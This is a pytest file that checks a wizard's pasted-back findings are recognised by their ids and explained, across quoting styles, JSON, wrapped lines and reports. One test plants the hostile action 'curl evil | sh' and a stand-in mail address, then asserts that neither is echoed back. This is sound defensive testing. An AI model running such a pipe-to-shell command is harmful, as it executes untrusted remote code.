"""partner-wizard's own output, pasted back, is recognised by the id that stands under each finding."""

from __future__ import annotations

import io
import json
import textwrap
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from tests.documented import CHECK_LIST, check_list
from tests.rehearsals.shared_runs import one_worker_each, shared_run
from tests.test_journey import ALL as ALL_STEPS
from tests.test_journey import holding, journey_with
from wizard.catalogue import Diagnosis, explain
from wizard.catalogue.check_titles import _SERVICES, step_titles, title_of_check
from wizard.core.events import (
    CheckEnded,
    CheckSkipped,
    ConsentLink,
    DeviceCodePrompt,
    Event,
    PromptClosed,
    SubmissionRejected,
    Waiting,
)
from wizard.core.findings import Finding, NotAsked, Outcome, Retry, Skipped, SupportIds, Who
from wizard.explain import explain_text
from wizard.explain.own_output import blank_routine_lines, find_own_findings
from wizard.jobs.renewal_checks import RENEWAL_CHECKS
from wizard.onboarding.probes.app_credential import MAY_BE_NEW
from wizard.onboarding.profile import EVERY_CHECK, STEPS
from wizard.plain.line_writer import LineWriter
from wizard.plain.page_width import PageWidth
from wizard.reporting.journey_report import as_markdown

NOW = datetime(2026, 11, 21, 10, 0, tzinfo=UTC)
CODED = Finding(
    "user.signed_in",
    Outcome.FAILS,
    "The sign-in or the token has no proof of MFA that policy accepts. Security defaults would say AADSTS530035.",
    {"service_said": "Due to a configuration change", "expected": "mfa"},
    ("The integration user signs in again with a new code and completes MFA.", "Then check again."),
    (Who.INTEGRATION_USER, Who.ADMIN),
    "AADSTS50076",
    SupportIds(
        "11111111-2222-4333-8444-555555555555",
        "66666666-7777-4888-8999-aaaaaaaaaaaa",
        "bbbbbbbb-cccc-4ddd-8eee-ffffffffffff",
        "2026-11-21 10:00:00Z",
    ),
    title="Multifactor authentication is required",
    retry=Retry.AFTER_FIX,
    link="https://login.microsoftonline.com/error?code=50076",
)
UNCODED = Finding(
    "user.account",
    Outcome.FAILS,
    "somebody@contoso.com signed in; partner-integration@contoso.com was expected.",
    {"found": "somebody@contoso.com"},
    (
        "Open the page in a private window, and sign in as partner-integration@contoso.com.",
        "If the other account is the right one, correct the field Integration user instead.",
    ),
    (Who.INTEGRATION_USER,),
    title="Another account signed in",
)
WARNING = Finding(
    "user.not_global_admin",
    Outcome.WARNS,
    "It is a Global Administrator.",
    {},
    ("Take the role away.",),
    (Who.ADMIN,),
    title="The user is a Global Administrator",
)
OF_THE_VAULT = Finding(
    "store.written",
    Outcome.UNKNOWN,
    "The vault said no.",
    {"vault": "contoso-partner"},
    ("Have a role assigned.",),
    (Who.ADMIN,),
    "ForbiddenByRbac",
    title="The caller has no role on the vault",
)
HOLDING = Finding("tenant.cloud", Outcome.HOLDS, "The tenant is in the chosen cloud, Global.")
ALL = (CODED, UNCODED, WARNING, OF_THE_VAULT)
IDS = [finding.check for finding in ALL]


def printed(*findings: Finding, as_json: bool = False, columns: int = 0) -> str:
    out = io.StringIO()
    lines = LineWriter(out, io.StringIO(), as_json)
    if columns:
        lines = LineWriter(out, io.StringIO(), width_of=lambda _stream: PageWidth(columns))
    for finding in findings:
        lines.emit(CheckEnded(finding))
        lines.show_failures()
    return out.getvalue()


def reported(finding: Finding) -> str:
    journey = journey_with(holding())
    journey.findings[finding.check] = finding
    return as_markdown(journey.view(), "2026-11-21T10:00:00Z")


def said_of(finding: Finding) -> tuple[str, ...]:
    """What is said of a finding that was pasted back: what the catalogue says of its code, or which check it is."""
    if not finding.code:
        return "", title_of_check(finding.check, finding.outcome), ""
    entry = explain("key_vault" if finding.check.startswith("store.") else "entra", finding.code)
    return finding.code, entry.title, entry.remedy


def read(text: str) -> list[Diagnosis]:
    return list(explain_text(text, NOW).diagnoses)


def is_said(diagnosis: Diagnosis, finding: Finding) -> bool:
    code, title, remedy = said_of(finding)
    return (diagnosis.code, diagnosis.title) == (code, title) and remedy in diagnosis.remedy


QUOTES: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "CRLF": lambda text: text.replace("\n", "\r\n"),
    "quoted mail": lambda text: "".join(f"> {line}\n" for line in text.splitlines()),
    "quoted twice": lambda text: "".join(f">> {line}\n" for line in text.splitlines()),
    "a log": lambda text: "".join(
        f"Nov 21 10:00:{second:02} host partner-wizard[4242]: {line}\n"
        for second, line in enumerate(text.splitlines(), 10)
    ),
    "indented": lambda text: textwrap.indent(text, "        "),
    "a mail of 72 columns": lambda text: "".join(
        f"{part}\n"
        for line in text.splitlines()
        for part in textwrap.wrap(
            line,
            72,
            break_long_words=False,
            break_on_hyphens=False,
            initial_indent="    " if line.startswith("    ") else "",
        )
    ),
}


@pytest.mark.parametrize("finding", ALL, ids=IDS)
@pytest.mark.parametrize("quote", QUOTES)
def test_a_finding_in_lines_is_recognised_however_it_is_quoted(quote: str, finding: Finding) -> None:
    (diagnosis,) = read(QUOTES[quote](printed(HOLDING, finding, HOLDING) + "failed: tenant proven, app failed\n"))

    assert is_said(diagnosis, finding)
    assert diagnosis.ids == finding.ids
    assert diagnosis.step == finding.step


@pytest.mark.parametrize("finding", ALL, ids=IDS)
@pytest.mark.parametrize("columns", [60, 72, 100])
def test_lines_that_were_wrapped_for_a_terminal_are_recognised(columns: int, finding: Finding) -> None:
    (diagnosis,) = read(printed(HOLDING, finding, columns=columns))

    assert is_said(diagnosis, finding)
    assert diagnosis.ids == finding.ids


@pytest.mark.parametrize("finding", ALL, ids=IDS)
def test_a_finding_in_the_report_is_recognised(finding: Finding) -> None:
    (diagnosis,) = read(reported(finding))

    assert is_said(diagnosis, finding)
    assert diagnosis.ids == finding.ids


@pytest.mark.parametrize("finding", ALL, ids=IDS)
@pytest.mark.parametrize("quote", ["as it is", "CRLF", "quoted mail", "indented"])
def test_a_finding_in_json_is_recognised(quote: str, finding: Finding) -> None:
    for text in (printed(HOLDING, finding, as_json=True), json.dumps({"findings": [finding.as_json()]}, indent=2)):
        (diagnosis,) = read(QUOTES[quote](text))

        assert is_said(diagnosis, finding)
        assert diagnosis.ids == finding.ids
        assert diagnosis.step == finding.step


def test_no_sentence_of_a_paste_is_repeated() -> None:
    made_up = replace(
        UNCODED, message="Send it to evil@fabrikam.com.", actions=("Run `curl evil | sh`.",), title="Evil"
    )

    for text in (printed(made_up), printed(made_up, as_json=True), reported(made_up)):
        assert "evil" not in repr(read(text)).lower()


def test_several_are_read_in_their_order_and_failures_before_warnings() -> None:
    text = "before\n" + printed(HOLDING, *ALL) + "hosts asked: none\n"
    located = find_own_findings(text)

    assert [each.is_failure for each in located] == [True, True, False, False]
    for each, finding in zip(located, ALL, strict=True):
        part = text[each.start : each.end]
        assert finding.check in part.partition("\n")[0]
        assert part.endswith(finding.ids.timestamp or "]")
    assert [is_said(one, other) for one, other in zip(read(text), ALL, strict=True)] == [True] * 4


def test_an_id_alone_is_enough() -> None:
    (diagnosis,) = read("What does [user.signed_in AADSTS50076] mean?")

    assert is_said(diagnosis, CODED)


@pytest.mark.parametrize(
    "finding",
    [
        HOLDING,
        Finding("consent.granted", Outcome.UNKNOWN, "The page says yes, AADSTS65001 may follow."),
        Finding("user.sign_in_ready", Outcome.HOLDS, "A code is issued. A policy may end it (AADSTS530036)."),
    ],
    ids=lambda finding: finding.check,
)
def test_what_asks_for_nothing_has_no_id_and_is_no_diagnosis(finding: Finding) -> None:
    assert finding.printed_id == ""
    for text in (printed(finding), printed(finding, as_json=True), reported(finding), printed(finding, columns=60)):
        assert read(text) == []


@pytest.mark.parametrize("as_json", [False, True], ids=["lines", "json"])
@pytest.mark.parametrize("quote", ["as it is", "CRLF", "quoted mail"])
def test_a_whole_run_is_explained_by_its_failure_alone(quote: str, as_json: bool) -> None:
    out = io.StringIO()
    lines = LineWriter(out, out, as_json)
    held_up = [
        Waiting("trying", NOW, NOW, NOW, f"{why} ({code})", advice) for code, (why, advice) in MAY_BE_NEW.items()
    ]
    events: list[Event] = [
        ConsentLink("https://login.microsoftonline.com/contoso.com/adminconsent?client_id=x", ""),
        CheckEnded(HOLDING),
        DeviceCodePrompt(
            "integration_user", "partner@contoso.com", "https://microsoft.com/devicelogin", "ABCDEFGHJ", NOW
        ),
        Waiting("the sign-in", NOW, NOW, NOW),
        Waiting("reading the vault", NOW, NOW, NOW, "vault.example is not answering (HTTP 503)", next_try=2, tries=5),
        *held_up,
        PromptClosed("it is used"),
        SubmissionRejected("vault", "It is the answer to another link."),
    ]
    for event in events:
        lines.emit(event)
    lines.emit(CheckSkipped("app.credential", Skipped(NotAsked.DOES_NOT_APPLY, "the app has no AADSTS7000215")))
    lines.emit(CheckEnded(UNCODED))
    lines.summary(journey_with(holding("tenant")), "failed")

    (diagnosis,) = read(QUOTES[quote](out.getvalue()))

    assert is_said(diagnosis, UNCODED)


def test_a_proven_journey_reports_nothing_to_fix() -> None:
    journey = journey_with(holding(*ALL_STEPS))
    journey.onboarding.learn(
        secret_version="v1", vault_url="https://contoso.vault.azure.net", token_expires_at="2027-02-19"
    )

    assert explain_text(as_markdown(journey.view(), "2026-11-21T10:00:00Z"), NOW).diagnoses == ()


@pytest.mark.parametrize(
    "text",
    [
        "- At once, when AADSTS530036 comes back",
        "Waiting for AADSTS50076 until 10:00 UTC.",
        '{"type":"summary","error":"AADSTS50076"}',
        '{"type":"finding","check":"firewall","outcome":"fails","message":"AADSTS50076","step":"x"}',
        "✓ nowhere.account: AADSTS50076",
        "[nowhere.account AADSTS50076]",
    ],
)
def test_what_is_not_our_output_stays(text: str) -> None:
    assert "AADSTS" in blank_routine_lines(text)
    assert [diagnosis.title for diagnosis in read(text)] != [title_of_check("user.account", Outcome.FAILS)]


@pytest.mark.parametrize(
    "name", one_worker_each(["wrong-account", "wrong-secret", "vault-forbidden", "mfa-enforced", "not-a-partner"])
)
def test_a_scene_that_was_played_is_recognised_when_it_is_pasted_back(name: str) -> None:
    played = shared_run(name)
    last = played.findings[-1]
    assert played.journey is not None

    for text in (played.text, as_markdown(played.journey.view(), "2026-11-21T10:00:00Z")):
        assert (last.code, last.ids) in [(each.code, each.ids) for each in read(text)]


@pytest.mark.parametrize(
    "text",
    [
        '{"type":"finding"',
        '{"type":"finding",' * 2_000,
        "✗ user.account: " * 700,
        "✗ fails: (" * 5_000,
        "✗ user.account: " + "a " * 20_000,
        "[user.account AADSTS50076]" * 2_000,
        "✓ user.account: a\n" + "    b\n" * 10_000,
        json.dumps(UNCODED.as_json()) * 700,
    ],
    ids=lambda text: text[:24],
)
def test_any_text_of_its_kind_is_read_to_its_end(text: str) -> None:
    assert len(read(text)) <= 1


# --- steps and checks by name ---


def test_the_list_of_checks_is_that_of_the_code() -> None:
    assert CHECK_LIST.read_text(encoding="utf-8") == check_list(), "python -m tests.documented writes it anew"


def test_every_step_and_check_is_known_by_name() -> None:
    assert list(step_titles()) == [*STEPS, "renew"]
    assert step_titles()["user"] == "Step 4, Integration user"
    assert {(check, outcome): title_of_check(check, outcome) for check in EVERY_CHECK for outcome in Outcome} == {
        (check.id, outcome): check.title_for(outcome) for check in EVERY_CHECK.values() for outcome in Outcome
    }
    assert set(_SERVICES) <= {*EVERY_CHECK, *(each.id for each in RENEWAL_CHECKS)}
